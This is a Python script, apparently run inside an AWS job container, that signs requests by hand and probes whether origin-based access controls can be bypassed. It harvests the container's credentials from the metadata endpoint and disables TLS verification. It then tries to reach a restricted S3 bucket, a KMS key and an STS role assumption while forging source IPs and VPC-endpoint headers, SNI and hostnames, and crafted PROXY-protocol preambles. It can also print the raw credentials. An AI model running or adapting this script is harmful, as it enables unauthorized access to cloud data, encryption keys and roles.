"""Signs calls by hand and lies about where they come from. Prints what came of each lie, a line for each.

In a job everything is asked for by the hyperparameters; elsewhere by the first argument.
"""

import http.client
import json
import os
import socket
import ssl
import sys
import urllib.request

import botocore.auth
import botocore.awsrequest
import botocore.credentials

if len(sys.argv) > 1:
    asked = json.loads(sys.argv[1])
else:
    with open("/opt/ml/input/config/hyperparameters.json") as f:
        asked = json.load(f)
REGION = "us-east-1"
anybody = ssl.create_default_context()
anybody.check_hostname, anybody.verify_mode = False, ssl.CERT_NONE


def own():
    if "credentials" in asked:
        return asked["credentials"]
    with urllib.request.urlopen("http://169.254.170.2" + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]) as r:
        return json.load(r)


KEYS = own()


def lines(raw):
    """An answer's status and what it says, from the raw bytes of a connection."""
    r = http.client.HTTPResponse(raw)
    r.begin()
    return [r.status, r.read(2000).decode("utf-8", "replace")]


def call(what, address=None, headers={}, host=None, sni=None, before=b""):
    """One signed call; host, sni and before are the lies that a socket can tell, headers those of HTTP, signed too."""
    service, method, path, body, typed = what
    name = host or f"{service}.{REGION}.amazonaws.com"
    request = botocore.awsrequest.AWSRequest(method=method, url=f"https://{name}{path}", data=body, headers={**typed, **headers})
    keys = botocore.credentials.Credentials(KEYS["AccessKeyId"], KEYS["SecretAccessKey"], KEYS["Token"])
    signer = botocore.auth.S3SigV4Auth if service == "s3" else botocore.auth.SigV4Auth
    signer(keys, service, REGION).add_auth(request)
    to = address or asked.get("address") or socket.gethostbyname(name)
    port = asked.get("port", 443)
    with socket.create_connection((to, int(port)), timeout=10) as plain:
        if before:
            plain.sendall(before)
        with anybody.wrap_socket(plain, server_hostname=sni or name) as s:
            text = f"{method} {path} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\nContent-Length: {len(body)}\r\n"
            for k, v in request.headers.items():
                if k.lower() not in ("host", "content-length"):
                    text += f"{k}: {v if isinstance(v, str) else v.decode()}\r\n"
            s.sendall(text.encode() + b"\r\n" + body)
            return lines(s)


def told(*args, **kw):
    try:
        return call(*args, **kw)
    except Exception as e:
        return [0, type(e).__name__]


def query(action, **kw):
    from urllib.parse import urlencode
    return urlencode({"Action": action, "Version": "2011-06-15", **kw}).encode()


FORM, JSON = {"Content-Type": "application/x-www-form-urlencoded"}, {"Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": "TrentService.Encrypt"}
CALLS = {
    "object": ("s3", "GET", f"/{asked['fenced']}/k", b"", {}),
    "key": ("kms", "POST", "/", json.dumps({"KeyId": asked["key"], "Plaintext": "aGVsbG8="}).encode(), JSON),
    "role": ("sts", "POST", "/", query("AssumeRole", RoleArn=asked["role"], RoleSessionName="thief"), FORM),
}
endpoints = json.loads(asked["endpoints"])  # service: id, of the VPC that is lied about
for name, what in CALLS.items():
    service = what[0]
    claims = {"vpce": endpoints[service], "vpc": asked["vpc"], "address": asked["inside"]}
    lies = {"none": {}}
    for header in ("X-Forwarded-For", "X-Real-IP", "True-Client-IP", "X-Client-IP", "Forwarded", "X-Envoy-External-Address"):
        lies[header] = {"headers": {header: "for=" + claims["address"] if header == "Forwarded" else claims["address"]}}
    for header in ("X-Amz-Source-Vpce", "X-Amz-Vpc-Endpoint-Id", "X-Amzn-Vpce-Id", "X-Forwarded-Vpce"):
        lies[header] = {"headers": {header: claims["vpce"]}}
    for header in ("X-Amz-Source-Vpc", "X-Amzn-Vpc-Id"):
        lies[header] = {"headers": {header: claims["vpc"]}}
    lies["endpoint's own host"] = {"host": f"{claims['vpce']}.{service}.{REGION}.vpce.amazonaws.com"}
    lies["endpoint's own SNI"] = {"sni": f"{claims['vpce']}.{service}.{REGION}.vpce.amazonaws.com"}
    lies["PROXY v1"] = {"before": f"PROXY TCP4 {claims['address']} 10.0.0.1 4711 443\r\n".encode()}
    v2 = socket.inet_aton(claims["address"]) + socket.inet_aton("10.0.0.1") + b"\x12\x67\x01\xbb"
    aws = b"\x01" + claims["vpce"].encode()
    v2 += b"\xea" + len(aws).to_bytes(2, "big") + aws
    lies["PROXY v2"] = {"before": b"\r\n\r\n\x00\r\nQUIT\n\x21\x11" + len(v2).to_bytes(2, "big") + v2}
    print("FOUND", name, json.dumps({lie: told(what, **kw) for lie, kw in lies.items()}), flush=True)

if "others" in asked:  # the addresses of endpoints of other services
    others = json.loads(asked["others"])
    print("FOUND crossed", json.dumps({f"{name} through {via}": told(what, address=socket.gethostbyname(f"{via}.{REGION}.amazonaws.com"))
                                       for name, what in CALLS.items() for via in others if via != what[0]}), flush=True)
if "show" in asked:  # only a test prints them: to show what they are worth elsewhere
    print("FOUND own", json.dumps(KEYS), flush=True)
print("FOUND done true", flush=True)
